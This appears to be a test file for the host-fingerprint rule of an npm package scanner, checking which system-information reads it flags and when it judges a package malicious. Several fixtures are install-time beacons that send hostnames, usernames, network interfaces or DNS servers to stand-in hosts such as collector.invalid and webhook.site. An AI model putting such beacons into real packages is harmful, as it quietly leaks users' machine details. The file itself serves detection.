import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { expectAtMostLow, finding } from '../test/helpers/findings.js';

const RULE = 'host-fingerprint';

describe('host-fingerprint reports', () => {
  test('a dependency-confusion beacon at preinstall: each fingerprint read is low, the package is malicious', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { preinstall: 'node index.js' } }),
      'index.js': "const os = require('os');\nconst https = require('https');\nconst data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname, n: os.networkInterfaces() });\nconst req = https.request({ hostname: 'collector.invalid', path: '/c', method: 'POST' });\nreq.end(data);",
    });
    const msgs = r.of(RULE).map((f) => f.message);
    expect(msgs).toEqual([expect.stringContaining('os.hostname'), expect.stringContaining('os.userInfo'), expect.stringContaining('os.networkInterfaces')]);
    for (const f of r.of(RULE)) expect(f).toEqual(finding('low', ['source:fingerprint'], { reach: 'install' }));
    expect(r.verdict).toBe('malicious');
    expect(r.score).toBeGreaterThanOrEqual(90);
  });

  test('DNS servers and host name sent to webhook.site on import is malicious', () => {
    const r = scanFiles({
      'index.js': "const dns = require('dns');\nconst os = require('os');\nconst info = [os.hostname(), dns.getServers().join(',')].join('|');\nrequire('https').get('https://webhook.site/00000000-0000-0000-0000-000000000000?i=' + encodeURIComponent(info));",
    });
    expect(r.of(RULE)).toContainEqual(finding('low', ['source:fingerprint'], { message: expect.stringContaining('dns.getServers') }));
    expect(r.verdict).toBe('malicious');
  });

  test('ESM aliased imports (hostname as h) with an IP lookup at postinstall are resolved', () => {
    const r = scanFiles({
      'package.json': manifest({ main: 'index.mjs', scripts: { postinstall: 'node index.mjs' } }),
      'index.mjs': "import { hostname as h, userInfo } from 'node:os';\nconst id = `${h()}-${userInfo().username}`;\nawait fetch('https://api.ipify.org').then(() => fetch('https://collector.invalid/' + id));",
    });
    expect(r.of(RULE).map((f) => f.message)).toEqual([expect.stringContaining('os.hostname'), expect.stringContaining('os.userInfo')]);
    expect(r.verdict).toBe('malicious');
  });

  test('OS release and version are fingerprint reads', () => {
    const r = scanFiles({ 'index.js': "const { release, version } = require('os');\nmodule.exports = `${process.platform} ${release()} ${version()}`;" });
    expect(r.of(RULE).map((f) => f.message)).toEqual([expect.stringContaining('os.release'), expect.stringContaining('os.version')]);
    for (const f of r.of(RULE)) expect(f).toEqual(finding('low', ['source:fingerprint']));
  });

  test('os.release() and os.version() are seen in a file with no other trigger word', () => {
    const r = scanFiles({ 'index.js': "const { release, version } = require('os');\nmodule.exports = release() + ' ' + version();" });
    expect(r.of(RULE)).toHaveLength(2);
  });

  test('one finding per call kind per file', () => {
    const r = scanFiles({ 'index.js': "const os = require('os');\nexports.a = () => os.hostname();\nexports.b = () => os.hostname().toUpperCase();" });
    expect(r.of(RULE)).toHaveLength(1);
  });
});

describe('host-fingerprint stays quiet', () => {
  test('a logger prefixing lines with the host name is low and clean', () => {
    const r = scanFiles({ 'index.js': "const os = require('os');\nmodule.exports = function log(msg) { process.stdout.write(`[${os.hostname()}] ${msg}\\n`); };" });
    expectAtMostLow(r.of(RULE));
    expect(r.verdict).toBe('clean');
  });

  test('a dev server printing its LAN addresses is low and clean', () => {
    const r = scanFiles({
      'index.js': "const os = require('os');\nconst http = require('http');\nmodule.exports = (port) => { const addrs = Object.values(os.networkInterfaces()).flat().filter((i) => i.family === 'IPv4'); http.createServer().listen(port); return addrs.map((a) => `http://${a.address}:${port}`); };",
    });
    expectAtMostLow(r.of(RULE));
    expect(r.verdict).toBe('clean');
  });

  test('platform, arch and cpu count are not fingerprinting', () => {
    const r = scanFiles({ 'index.js': "const os = require('os');\nmodule.exports = { platform: process.platform, release: process.release.name, arch: os.arch(), cpus: os.cpus().length, eol: os.EOL };" });
    expect(r.stats.parsedFiles).toBe(1);
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('the home folder from userInfo() for a config path is low and clean', () => {
    const r = scanFiles({ 'index.js': "const os = require('os');\nconst path = require('path');\nmodule.exports = path.join(os.userInfo().homedir, '.mytoolrc');" });
    expectAtMostLow(r.of(RULE));
    expect(r.verdict).toBe('clean');
  });

  test('a host-name read in one module and a fetch in another do not chain', () => {
    const r = scanFiles({
      'lib/log.js': "const os = require('os');\nmodule.exports = (m) => console.log(os.hostname(), m);",
      'index.js': "const log = require('./lib/log');\nmodule.exports = (u) => fetch(u).then((r) => { log('ok'); return r; });",
    });
    expect(r.of(RULE)).toEqual([finding('low', ['source:fingerprint'], { file: 'lib/log.js' })]);
    expect(r.verdict).toBe('clean');
  });
});
